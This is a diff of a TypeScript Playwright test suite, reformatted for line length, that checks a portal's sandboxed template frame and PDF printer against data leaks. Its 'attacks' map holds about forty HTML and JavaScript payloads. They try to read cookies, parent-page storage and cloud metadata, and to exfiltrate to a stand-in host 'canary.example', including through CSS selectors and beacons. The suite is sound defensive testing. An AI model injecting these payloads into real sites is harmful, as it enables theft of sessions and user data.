@@ -20,7 +20,8 @@ const secret = 'oturum-sirri'
 let asked: string[] = []
 /** A proxy for everything: what is for the portal is answered as the portal does, all else is counted. */
 const canary = createServer((request, response) => {
-  if (request.url?.startsWith(`${origin}/`)) return answerPortal(request.url.slice(origin.length), response)
+  if (request.url?.startsWith(`${origin}/`))
+    return answerPortal(request.url.slice(origin.length), response)
   asked.push(request.url ?? '')
   response.end()
 })
@@ -37,23 +38,37 @@ const origin = 'http://localhost:4000'
 function answerPortal(path: string, response: ServerResponse): void {
   const isFrame = path === pageFramePath
   if (!isFrame && path !== '/') asked.push(`portal ${path}`)
-  if (!isFrame) return void response.writeHead(200, { ...pageHeaders({ services: [], identity: [] }), 'Content-Type': 'text/html; charset=utf-8', 'Set-Cookie': `session=${secret}` }).end('<!doctype html><title>Evrak</title><body></body>')
+  if (!isFrame)
+    return void response
+      .writeHead(200, {
+        ...pageHeaders({ services: [], identity: [] }),
+        'Content-Type': 'text/html; charset=utf-8',
+        'Set-Cookie': `session=${secret}`,
+      })
+      .end('<!doctype html><title>Evrak</title><body></body>')
   const place = pageFrame()
-  void place.text().then((body) => response.writeHead(200, Object.fromEntries(place.headers)).end(body))
+  void place
+    .text()
+    .then((body) => response.writeHead(200, Object.fromEntries(place.headers)).end(body))
 }
 const portOf = (server: Server) => (server.address() as AddressInfo).port
 
 let browser: Browser
 beforeAll(async () => {
   await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
-  browser = await chromium.launch({ ...(await findChromium(() => {})), headless: true, proxy: { server: `http://127.0.0.1:${portOf(canary)}` } })
+  browser = await chromium.launch({
+    ...(await findChromium(() => {})),
+    headless: true,
+    proxy: { server: `http://127.0.0.1:${portOf(canary)}` },
+  })
 }, 120_000)
 afterAll(async () => {
   await browser?.close()
   canary.close()
 })
 
-const script = (body: string) => `<script>const tell = (what) => parent.postMessage('got ' + what, '*'); const attempt = async (what) => { try { tell(await what()) } catch { tell('nothing') } };\n${body}</script>`
+const script = (body: string) =>
+  `<script>const tell = (what) => parent.postMessage('got ' + what, '*'); const attempt = async (what) => { try { tell(await what()) } catch { tell('nothing') } };\n${body}</script>`
 const click = `document.querySelector('a, button').click()`
 
 /** `web` is where a page wants to go. */
@@ -61,50 +76,86 @@ const attacks: Readonly<Record<string, (web: string) => string>> = {
   'cookies of the session': () => script('attempt(() => document.cookie)'),
   'the page around it': () => script('attempt(() => parent.document.documentElement.outerHTML)'),
   'the storage around it': () => script(`attempt(() => parent.localStorage.getItem('secret'))`),
-  'a storage of its own': () => script(`attempt(() => localStorage.getItem('secret')); attempt(() => sessionStorage.getItem('secret'))`),
-  'the database of the browser': () => script(`attempt(() => new Promise((yes, no) => { const db = indexedDB.open('x'); db.onsuccess = () => yes('opened'); db.onerror = no }))`),
+  'a storage of its own': () =>
+    script(
+      `attempt(() => localStorage.getItem('secret')); attempt(() => sessionStorage.getItem('secret'))`,
+    ),
+  'the database of the browser': () =>
+    script(
+      `attempt(() => new Promise((yes, no) => { const db = indexedDB.open('x'); db.onsuccess = () => yes('opened'); db.onerror = no }))`,
+    ),
   'the page that opened it': () => script('attempt(() => opener.document.cookie)'),
-  'fetch': (web) => script(`attempt(() => fetch('${web}/fetch', { mode: 'no-cors' }))`),
-  'a call of the portal': () => script(`attempt(() => fetch('/api/GeneralCompany', { credentials: 'include' }).then((answer) => answer.text()))`),
-  'XMLHttpRequest': (web) => script(`const ask = new XMLHttpRequest(); ask.open('GET', '${web}/xhr'); ask.send()`),
-  'WebSocket': (web) => script(`new WebSocket('${web.replace('http', 'ws')}/socket')`),
-  'EventSource': (web) => script(`new EventSource('${web}/events')`),
-  'sendBeacon': (web) => script(`navigator.sendBeacon('${web}/beacon', 'x')`),
+  fetch: (web) => script(`attempt(() => fetch('${web}/fetch', { mode: 'no-cors' }))`),
+  'a call of the portal': () =>
+    script(
+      `attempt(() => fetch('/api/GeneralCompany', { credentials: 'include' }).then((answer) => answer.text()))`,
+    ),
+  XMLHttpRequest: (web) =>
+    script(`const ask = new XMLHttpRequest(); ask.open('GET', '${web}/xhr'); ask.send()`),
+  WebSocket: (web) => script(`new WebSocket('${web.replace('http', 'ws')}/socket')`),
+  EventSource: (web) => script(`new EventSource('${web}/events')`),
+  sendBeacon: (web) => script(`navigator.sendBeacon('${web}/beacon', 'x')`),
   'a picture': (web) => `<img src="${web}/img"><img srcset="${web}/srcset 1x">`,
   'the metadata of a cloud': () => '<img src="http://169.254.169.254/latest/meta-data/">',
   'a frame': (web) => `<iframe src="${web}/frame"></iframe>`,
-  'a frame with a script in it': (web) => `<iframe srcdoc="<script>fetch('${web}/srcdoc', { mode: 'no-cors' })</script><img src='${web}/srcdoc-img'>"></iframe>`,
-  'an empty frame with new functions': (web) => script(`const frame = document.body.appendChild(document.createElement('iframe')); frame.contentWindow.fetch('${web}/empty', { mode: 'no-cors' }); frame.contentWindow.Image && (new frame.contentWindow.Image().src = '${web}/empty-img')`),
+  'a frame with a script in it': (web) =>
+    `<iframe srcdoc="<script>fetch('${web}/srcdoc', { mode: 'no-cors' })</script><img src='${web}/srcdoc-img'>"></iframe>`,
+  'an empty frame with new functions': (web) =>
+    script(
+      `const frame = document.body.appendChild(document.createElement('iframe')); frame.contentWindow.fetch('${web}/empty', { mode: 'no-cors' }); frame.contentWindow.Image && (new frame.contentWindow.Image().src = '${web}/empty-img')`,
+    ),
   'meta refresh': (web) => `<meta http-equiv="refresh" content="0;url=${web}/refresh">`,
-  'a looser policy': (web) => `<html><head><meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"></head><body><img src="${web}/looser"></body></html>`,
+  'a looser policy': (web) =>
+    `<html><head><meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"></head><body><img src="${web}/looser"></body></html>`,
   'its own address': (web) => script(`location.href = '${web}/self?' + document.title`),
   'the address of the portal': (web) => script(`attempt(() => { top.location = '${web}/top' })`),
-  'the address of the portal by a link': (web) => `<a target="_top" href="${web}/link">x</a>${script(click)}`,
+  'the address of the portal by a link': (web) =>
+    `<a target="_top" href="${web}/link">x</a>${script(click)}`,
   'a window': (web) => script(`attempt(() => open('${web}/window').document.title)`),
-  'a window by a link': (web) => `<a target="_blank" rel="opener" href="${web}/blank">x</a>${script(click)}`,
+  'a window by a link': (web) =>
+    `<a target="_blank" rel="opener" href="${web}/blank">x</a>${script(click)}`,
   'a ping': (web) => `<a href="#x" ping="${web}/ping">x</a>${script(click)}`,
-  'a form': (web) => `<form method="post" action="${web}/form"><input name="a" value="x"><button>x</button></form>${script(`document.forms[0].submit(); ${click}`)}`,
+  'a form': (web) =>
+    `<form method="post" action="${web}/form"><input name="a" value="x"><button>x</button></form>${script(`document.forms[0].submit(); ${click}`)}`,
   'another base': (web) => `<base href="${web}/"><img src="base"><script src="base.js"></script>`,
   'object and embed': (web) => `<object data="${web}/object"></object><embed src="${web}/embed">`,
-  'a stylesheet': (web) => `<link rel="stylesheet" href="${web}/css"><style>@import '${web}/import';</style>`,
-  'styles that tell what a field says': (web) => `<input value="${secret}"><style>input[value^="o"] { background: url(${web}/starts-with-o) } @font-face { font-family: x; src: url(${web}/font) } body { font-family: x; cursor: url(${web}/cursor), auto; list-style: url(${web}/list) }</style>`,
-  'connections ahead': (web) => `<link rel="preconnect" href="${web}"><link rel="dns-prefetch" href="${web}"><link rel="prefetch" href="${web}/prefetch"><link rel="preload" as="image" href="${web}/preload"><link rel="modulepreload" href="${web}/module"><link rel="icon" href="${web}/icon"><link rel="manifest" href="${web}/manifest">`,
-  'connections ahead, by a script': (web) => script(`const link = document.createElement('link'); link.rel = 'preconnect'; link.href = '${web}'; document.head.append(link)`),
-  'pages ahead': (web) => `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${web}/speculation"]}], "prerender": [{"source": "list", "urls": ["${web}/prerender"]}]}</script>`,
-  'a script from elsewhere': (web) => `<script src="${web}/script.js"></script><script type="module">import('${web}/import.js')</script>`,
-  'a worker': (web) => script(`attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('${web}/worker', { mode: 'no-cors' })"]))))`),
-  'a service worker': () => script(`attempt(() => navigator.serviceWorker.register('/sw.js').then(() => 'registered'))`),
-  'drawings': (web) => `<svg><image href="${web}/svg-image"/><use href="${web}/use.svg#a"/><filter id="f"><feImage href="${web}/fe"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${web}/fill#a)"/></svg>`,
-  'sound and film': (web) => `<video src="${web}/video" poster="${web}/poster" autoplay></video><audio src="${web}/audio" autoplay></audio><track src="${web}/track">`,
-  'XSLT of its own': (web) => `<?xml-stylesheet type="text/xsl" href="${web}/xsl"?><p>x</p>${script(`attempt(() => { const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${web}/xsl-import"/></xsl:stylesheet>', 'text/xml')); return 'made' })`)}`,
+  'a stylesheet': (web) =>
+    `<link rel="stylesheet" href="${web}/css"><style>@import '${web}/import';</style>`,
+  'styles that tell what a field says': (web) =>
+    `<input value="${secret}"><style>input[value^="o"] { background: url(${web}/starts-with-o) } @font-face { font-family: x; src: url(${web}/font) } body { font-family: x; cursor: url(${web}/cursor), auto; list-style: url(${web}/list) }</style>`,
+  'connections ahead': (web) =>
+    `<link rel="preconnect" href="${web}"><link rel="dns-prefetch" href="${web}"><link rel="prefetch" href="${web}/prefetch"><link rel="preload" as="image" href="${web}/preload"><link rel="modulepreload" href="${web}/module"><link rel="icon" href="${web}/icon"><link rel="manifest" href="${web}/manifest">`,
+  'connections ahead, by a script': (web) =>
+    script(
+      `const link = document.createElement('link'); link.rel = 'preconnect'; link.href = '${web}'; document.head.append(link)`,
+    ),
+  'pages ahead': (web) =>
+    `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${web}/speculation"]}], "prerender": [{"source": "list", "urls": ["${web}/prerender"]}]}</script>`,
+  'a script from elsewhere': (web) =>
+    `<script src="${web}/script.js"></script><script type="module">import('${web}/import.js')</script>`,
+  'a worker': (web) =>
+    script(
+      `attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('${web}/worker', { mode: 'no-cors' })"]))))`,
+    ),
+  'a service worker': () =>
+    script(`attempt(() => navigator.serviceWorker.register('/sw.js').then(() => 'registered'))`),
+  drawings: (web) =>
+    `<svg><image href="${web}/svg-image"/><use href="${web}/use.svg#a"/><filter id="f"><feImage href="${web}/fe"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${web}/fill#a)"/></svg>`,
+  'sound and film': (web) =>
+    `<video src="${web}/video" poster="${web}/poster" autoplay></video><audio src="${web}/audio" autoplay></audio><track src="${web}/track">`,
+  'XSLT of its own': (web) =>
+    `<?xml-stylesheet type="text/xsl" href="${web}/xsl"?><p>x</p>${script(`attempt(() => { const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${web}/xsl-import"/></xsl:stylesheet>', 'text/xml')); return 'made' })`)}`,
 }
 const names = Object.keys(attacks)
 
 /** Of the frame as React writes it; the page itself makes no element of text (TRUST B7). */
-const attributesOf = (markup: string): readonly (readonly [name: string, value: string])[] => [...markup.matchAll(/ ([a-z]+)="([^"]*)"/g)].map(([, name = '', value = '']) => [name, value])
+const attributesOf = (markup: string): readonly (readonly [name: string, value: string])[] =>
+  [...markup.matchAll(/ ([a-z]+)="([^"]*)"/g)].map(([, name = '', value = '']) => [name, value])
 
 /** The page in the frame of the portal; gives what it told the portal, and where the portal is then. */
-async function shownInPortal(html: string): Promise<{ told: readonly string[]; address: string; pages: number }> {
+async function shownInPortal(
+  html: string,
+): Promise<{ told: readonly string[]; address: string; pages: number }> {
   const context = await browser.newContext()
   try {
     const page = await context.newPage()
@@ -112,18 +163,29 @@ async function shownInPortal(html: string): Promise<{ told: readonly string[]; a
     await page.evaluate((kept) => {
       localStorage.setItem('secret', kept)
       Object.assign(window, { told: [] })
-      addEventListener('message', ({ data }) => (window as unknown as { told: string[] }).told.push(String(data)))
+      addEventListener('message', ({ data }) =>
+        (window as unknown as { told: string[] }).told.push(String(data)),
+      )
     }, secret)
     // As React does it: the frame is put into the page, and told when it is there.
-    const frame = await page.evaluateHandle((attributes) => {
-      const made = document.createElement('iframe')
-      for (const [name, value] of attributes) made.setAttribute(name, value)
-      document.body.append(made)
-      return new Promise<HTMLIFrameElement>((resolve) => made.addEventListener('load', () => resolve(made), { once: true }))
-    }, attributesOf(renderToStaticMarkup(<PageFrame title="x" html={html} />)))
+    const frame = await page.evaluateHandle(
+      (attributes) => {
+        const made = document.createElement('iframe')
+        for (const [name, value] of attributes) made.setAttribute(name, value)
+        document.body.append(made)
+        return new Promise<HTMLIFrameElement>((resolve) =>
+          made.addEventListener('load', () => resolve(made), { once: true }),
+        )
+      },
+      attributesOf(renderToStaticMarkup(<PageFrame title="x" html={html} />)),
+    )
     await frame.evaluate(showPage, html)
     await pause(600)
-    return { told: await page.evaluate(() => (window as unknown as { told: string[] }).told), address: page.url(), pages: context.pages().length }
+    return {
+      told: await page.evaluate(() => (window as unknown as { told: string[] }).told),
+      address: page.url(),
+      pages: context.pages().length,
+    }
   } finally {
     await context.close()
   }
@@ -132,24 +194,40 @@ async function shownInPortal(html: string): Promise<{ told: readonly string[]; a
 describe('pages of templates in the frame of the portal', () => {
   it.each(names)('[TM7] %s: nobody is asked, nothing is got', { timeout: 60_000 }, async (name) => {
     asked = []
-    const { told, address, pages } = await shownInPortal(templatePage(attacks[name]!('http://canary.example')))
+    const { told, address, pages } = await shownInPortal(
+      templatePage(attacks[name]!('http://canary.example')),
+    )
     expect(asked).toEqual([])
     expect(told.filter((one) => one.includes(secret) || /opened|registered/.test(one))).toEqual([])
     expect({ address, pages }).toEqual({ address: `${origin}/`, pages: 1 })
   })
 
-  it('[TM7] its own script runs, and draws with what it brings along', { timeout: 60_000 }, async () => {
-    const { told } = await shownInPortal(templatePage(`<img id="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">${script(`addEventListener('load', () => tell('picture ' + document.getElementById('dot').naturalWidth))`)}`))
-    expect(told).toContain('got picture 1')
-  })
+  it(
+    '[TM7] its own script runs, and draws with what it brings along',
+    { timeout: 60_000 },
+    async () => {
+      const { told } = await shownInPortal(
+        templatePage(
+          `<img id="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">${script(`addEventListener('load', () => tell('picture ' + document.getElementById('dot').naturalWidth))`)}`,
+        ),
+      )
+      expect(told).toContain('got picture 1')
+    },
+  )
 
-  it('[TM7] the test sees a page that gets out: the same pages without the frame ask', { timeout: 60_000 }, async () => {
-    asked = []
-    const page = await browser.newPage()
-    await page.setContent(attacks['a picture']!('http://canary.example') + attacks['fetch']!('http://canary.example'))
-    await expect.poll(() => asked.length).toBeGreaterThan(1)
-    await page.close()
-  })
+  it(
+    '[TM7] the test sees a page that gets out: the same pages without the frame ask',
+    { timeout: 60_000 },
+    async () => {
+      asked = []
+      const page = await browser.newPage()
+      await page.setContent(
+        attacks['a picture']!('http://canary.example') + attacks['fetch']!('http://canary.example'),
+      )
+      await expect.poll(() => asked.length).toBeGreaterThan(1)
+      await page.close()
+    },
+  )
 })
 
 describe('pages of templates on paper', () => {
@@ -159,8 +237,16 @@ describe('pages of templates on paper', () => {
     const web = `http://127.0.0.1:${portOf(canary)}`
     try {
       for (const name of names) {
-        const outcome = await printer.print(templatePage(`<p>sakin</p>${attacks[name]!(web)}`)).then((pdf) => Buffer.from(pdf.subarray(0, 5)).toString(), (error: Error) => error.message)
-        expect([name, outcome]).toEqual([name, expect.stringMatching(/^%PDF-|navigat|closed|destroyed|its end/i)])
+        const outcome = await printer
+          .print(templatePage(`<p>sakin</p>${attacks[name]!(web)}`))
+          .then(
+            (pdf) => Buffer.from(pdf.subarray(0, 5)).toString(),
+            (error: Error) => error.message,
+          )
+        expect([name, outcome]).toEqual([
+          name,
+          expect.stringMatching(/^%PDF-|navigat|closed|destroyed|its end/i),
+        ])
       }
       await pause(500)
       expect(asked).toEqual([])
@@ -169,13 +255,19 @@ describe('pages of templates on paper', () => {
     }
   })
 
-  it('[TM8] a script without an end is stopped, and the next page is printed', { timeout: 120_000 }, async () => {
-    const printer = createPrinter()
-    try {
-      await expect(printer.print(templatePage('<script>for (;;) {}</script>'))).rejects.toThrow()
-      expect(Buffer.from((await printer.print(templatePage('<p>iyi</p>'))).subarray(0, 5)).toString()).toBe('%PDF-')
-    } finally {
-      await printer.close()
-    }
-  })
+  it(
+    '[TM8] a script without an end is stopped, and the next page is printed',
+    { timeout: 120_000 },
+    async () => {
+      const printer = createPrinter()
+      try {
+        await expect(printer.print(templatePage('<script>for (;;) {}</script>'))).rejects.toThrow()
+        expect(
+          Buffer.from((await printer.print(templatePage('<p>iyi</p>'))).subarray(0, 5)).toString(),
+        ).toBe('%PDF-')
+      } finally {
+        await printer.close()
+      }
+    },
+  )
 })
